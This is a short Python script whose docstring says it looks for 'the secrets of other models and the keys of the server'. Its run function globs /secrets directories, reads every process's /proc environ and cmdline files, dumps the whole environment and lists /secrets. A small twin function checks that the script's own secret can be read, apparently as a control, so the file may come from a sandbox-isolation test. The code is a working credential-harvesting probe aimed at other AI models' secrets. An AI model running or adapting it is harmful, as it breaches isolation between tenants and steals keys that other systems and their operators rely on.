"""Looks for the secrets of other models and the keys of the server."""
import glob
import os

from attempt import attempt, held


def run(target):
    found = {path: attempt(held, path) for path in glob.glob("/secrets/*") + glob.glob("/**/secrets/*") + glob.glob("/app/**/secrets/*")}
    found.update({path: attempt(held, path) for path in target["paths"]})
    found.update({path: attempt(held, path) for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")})
    return {"found": found, "environment": dict(os.environ), "listed": attempt(os.listdir, "/secrets")}


def twin(target):
    """Its own is there."""
    return "works" if held(f"/secrets/{target['own']}") == target["value"] else "does not"
